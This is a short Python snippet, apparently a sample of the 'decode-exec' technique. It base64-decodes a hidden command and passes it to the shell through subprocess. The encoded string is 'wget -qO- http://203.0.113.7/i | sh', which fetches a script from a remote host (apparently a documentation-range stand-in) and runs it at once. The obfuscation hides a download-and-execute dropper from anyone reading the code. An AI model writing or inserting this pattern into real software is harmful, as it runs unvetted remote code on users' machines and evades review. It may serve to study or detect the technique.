# decode-exec: decoded text run by the shell through subprocess
import base64
import subprocess

cmd = base64.b64decode("d2dldCAtcU8tIGh0dHA6Ly8yMDMuMC4xMTMuNy9pIHwgc2g=").decode()
subprocess.run(cmd, shell=True, check=False)
